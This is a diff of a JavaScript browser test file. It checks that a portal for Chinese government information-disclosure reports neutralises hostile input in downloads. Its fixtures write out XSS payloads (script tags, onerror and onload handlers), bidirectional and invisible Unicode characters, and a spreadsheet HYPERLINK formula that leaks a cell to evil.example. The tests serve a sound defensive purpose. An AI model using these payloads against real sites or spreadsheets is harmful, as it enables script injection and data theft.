@@ -9,6 +9,7 @@ import { buildPortal, drop } from "./support/page.js";
 
 const ATTACK = `"><img src=x onerror=alert(1)><script>globalThis.pwned=1</script><svg onload=alert(2)>`;
 const BIDI = "\u202e\u2066\u200f\u061c";
+const UNSEEN = /[\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;
 const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"点我")`;
 const head = (organ) => `${organ}2024年政府信息公开工作年度报告\n\n一、总体情况\n\n${ATTACK}\n\n二、主动公开政府信息情况\n`;
 const row = (label, figures) => `${label}\t${figures.join("\t")}\n`;
@@ -73,22 +74,25 @@ for (const [name, text] of Object.entries(documents)) {
   });
 }
 
-test("what is saved of hostile figures is harmless too", { skip }, async () => {
-  const { page, bad, context } = await open(browser, `${server.url}/`);
-  await page.waitForSelector("html.ready");
-  await drop(page, [{ name: "a.json", text: documents["figures with markup"] }]);
-  for (const kind of ["page", "corrected"]) {
-    await page.locator(".menu summary").click();
-    const [download] = await Promise.all([page.waitForEvent("download"), page.locator(`[data-download="${kind}"]`).click()]);
-    assert.doesNotMatch(download.suggestedFilename(), /[<>"'\\/:|?*\u202e]/);
-    const saved = await open(browser, `file://${await download.path()}`);
-    assert.equal(await saved.page.evaluate(() => document.querySelectorAll("img, iframe, svg, script").length), 0);
-    assert.deepEqual(saved.bad.filter((line) => !line.startsWith("request: file:")), []);
-    await saved.context.close();
-  }
-  assert.deepEqual(bad, []);
-  await context.close();
-});
+for (const name of ["figures with markup", "figures that turn", "text that turns"]) {
+  test(`what is saved of ${name} is harmless too`, { skip }, async () => {
+    const { page, bad, context } = await open(browser, `${server.url}/`);
+    await page.waitForSelector("html.ready");
+    await drop(page, [{ name: `a${BIDI}`, text: documents[name] }]);
+    for (const kind of ["page", "corrected"]) {
+      await page.locator(".menu summary").click();
+      const [download] = await Promise.all([page.waitForEvent("download"), page.locator(`[data-download="${kind}"]`).click()]);
+      assert.doesNotMatch(download.suggestedFilename(), /[<>"'\\/:|?*\u202e]/);
+      const saved = await open(browser, `file://${await download.path()}`);
+      assert.equal(await saved.page.evaluate(() => document.querySelectorAll("img, iframe, svg, script").length), 0);
+      assert.deepEqual(saved.bad.filter((line) => !line.startsWith("request: file:")), []);
+      assert.doesNotMatch(await saved.page.content(), UNSEEN);
+      await saved.context.close();
+    }
+    assert.deepEqual(bad, []);
+    await context.close();
+  });
+}
 
 test("hostile cells are pasted as text", { skip }, async () => {
   const { page, bad, context } = await open(browser, `${server.url}/`);
